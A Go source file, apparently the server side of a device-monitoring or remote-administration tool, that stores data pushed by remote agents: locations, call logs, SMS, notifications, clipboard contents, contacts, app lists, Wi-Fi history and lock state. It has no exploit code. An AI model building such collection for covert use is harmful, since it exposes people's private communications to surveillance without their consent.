package fleet

import (
	"context"
	"encoding/json"
	"fmt"

	"fleetmaster/storage"
)

// Telemetry ingest: agents push log entries and whole-value snapshot
// sections over their live connection; these land in the store so the query
// facade has data to serve.

func (m *Manager) IngestLocation(ctx context.Context, clientID string, sample *storage.LocationSample) error {
	if err := m.store.AppendLocation(ctx, clientID, sample); err != nil {
		return fmt.Errorf("failed to record location: %w", err)
	}
	return nil
}

func (m *Manager) IngestCall(ctx context.Context, clientID string, entry *storage.CallEntry) error {
	if err := m.store.AppendCall(ctx, clientID, entry); err != nil {
		return fmt.Errorf("failed to record call: %w", err)
	}
	return nil
}

func (m *Manager) IngestSMS(ctx context.Context, clientID string, entry *storage.SMSEntry) error {
	if err := m.store.AppendSMS(ctx, clientID, entry); err != nil {
		return fmt.Errorf("failed to record sms: %w", err)
	}
	return nil
}

func (m *Manager) IngestNotification(ctx context.Context, clientID string, entry *storage.NotificationEntry) error {
	if err := m.store.AppendNotification(ctx, clientID, entry); err != nil {
		return fmt.Errorf("failed to record notification: %w", err)
	}
	return nil
}

func (m *Manager) IngestClipboard(ctx context.Context, clientID string, entry *storage.ClipboardEntry) error {
	if err := m.store.AppendClipboard(ctx, clientID, entry); err != nil {
		return fmt.Errorf("failed to record clipboard entry: %w", err)
	}
	return nil
}

var knownSections = map[string]struct{}{
	storage.SectionContacts:      {},
	storage.SectionApps:          {},
	storage.SectionPermissions:   {},
	storage.SectionWifiNow:       {},
	storage.SectionWifiLog:       {},
	storage.SectionCurrentFolder: {},
	storage.SectionLockState:     {},
}

// IngestSnapshot replaces one whole-value snapshot section for clientID.
func (m *Manager) IngestSnapshot(ctx context.Context, clientID, section string, data json.RawMessage) error {
	if _, ok := knownSections[section]; !ok {
		return fmt.Errorf("unknown snapshot section: %s", section)
	}
	if err := m.store.PutSnapshot(ctx, clientID, section, data); err != nil {
		return fmt.Errorf("failed to record snapshot: %w", err)
	}
	return nil
}
